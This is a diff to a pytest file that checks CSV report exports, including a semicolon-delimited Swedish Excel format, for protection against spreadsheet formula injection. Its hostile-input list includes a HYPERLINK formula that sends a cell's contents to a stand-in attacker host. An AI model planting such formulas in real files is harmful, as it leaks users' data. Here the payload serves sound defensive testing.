@@ -16,8 +16,8 @@ from engine.base.csvsafe import FORMULA_STARTS, Writer, neutralise, restore, row
 from engine.history.export import export_document, parse, to_csv, verify_export
 from webui.cli import main
 from workflows import Finsam
-from workflows.followup import Period, build_report
-from workflows.followup_export import to_csv as report_csv
+from workflows.followup import Period, build_report, names_of, to_data_csv
+from workflows.followup import to_csv as report_csv
 from workflows.users import new_token
 
 from .conftest import DATA
@@ -30,15 +30,16 @@ HOSTILE = ['=HYPERLINK("https://angripare.example/?"&A1;"Klicka")', "+1+1", "-2+
 NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
 
 
-def plain_cells(text: str) -> list[str]:
+def plain_cells(text: str, delimiter: str = ",") -> list[str]:
     """The cells as a spreadsheet's CSV reader sees them (no restore)."""
-    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+            for cell in row]
 
 
-def opens_as_text(text: str) -> bool:
+def opens_as_text(text: str, delimiter: str = ",") -> bool:
     """No cell starts a formula (a negative number is a number)."""
     return not any(cell[:1] in FORMULA_STARTS - {"'"} and not NUMBER.fullmatch(cell)
-                   for cell in plain_cells(text))
+                   for cell in plain_cells(text, delimiter))
 
 
 @pytest.mark.parametrize("value", HOSTILE + ["", "vanlig text", "'", "''x"])
@@ -85,32 +86,41 @@ def titled(finsam: Finsam, database_url: str) -> list[str]:
     return titles
 
 
-def _report_text_is_safe(text: str, titles: list[str]) -> None:
-    assert opens_as_text(text)
-    restored = [cell for row in rows(text) for cell in row]
+def _report_text_is_safe(text: str, titles: list[str], fmt: str = "csv-data") -> None:
+    """The report's CSV in either form: the tidy one of codes (commas), or the one for Swedish
+    Excel (semicolons after a byte order mark)."""
+    delimiter = ";" if fmt == "csv" else ","
+    if fmt == "csv":
+        assert text.startswith("\ufeff")
+        text = text[1:]
+    assert opens_as_text(text, delimiter)
+    restored = [restore(cell) for cell in plain_cells(text, delimiter)]
     for title in titles:
-        assert title in restored and "'" + title in plain_cells(text)
+        assert title in restored and "'" + title in plain_cells(text, delimiter)
 
 
 def test_the_report_csv_opens_as_text(finsam: Finsam, titled: list[str]) -> None:
     report = build_report(finsam.db, ("nnv-skane",), Period())
-    _report_text_is_safe(report_csv(report), titled)
+    _report_text_is_safe(to_data_csv(report), titled)
+    _report_text_is_safe(report_csv(report, names_of(finsam.db, ["nnv-skane"])), titled, "csv")
 
 
+@pytest.mark.parametrize("fmt", ["csv", "csv-data"])
 def test_the_report_csv_of_the_api_opens_as_text(client, finsam: Finsam,  # type: ignore[no-untyped-def]
-                                                 titled: list[str]) -> None:
+                                                 titled: list[str], fmt: str) -> None:
     token = new_token(finsam.db, "kansli")
-    response = client.get("/api/reports/uppfoljning?format=csv",
+    response = client.get(f"/api/reports/uppfoljning?format={fmt}",
                           headers={"Authorization": f"Bearer {token}"})
     assert response.status_code == 200
-    _report_text_is_safe(response.get_data(as_text=True), titled)
+    _report_text_is_safe(response.get_data().decode("utf-8"), titled, fmt)
 
 
+@pytest.mark.parametrize("fmt", ["csv", "csv-data"])
 def test_the_report_csv_of_the_command_line_opens_as_text(
         finsam: Finsam, titled: list[str], database_url: str,
-        monkeypatch: pytest.MonkeyPatch) -> None:
+        monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
     monkeypatch.setenv("FINSAM_DATABASE_URL", database_url)
     result = CliRunner().invoke(main, ["report", "uppfoljning", "--forbund", "nnv-skane",
-                                       "--format", "csv"], catch_exceptions=False)
+                                       "--format", fmt], catch_exceptions=False)
     assert result.exit_code == 0, result.output
-    _report_text_is_safe(result.output, titled)
+    _report_text_is_safe(result.output, titled, fmt)
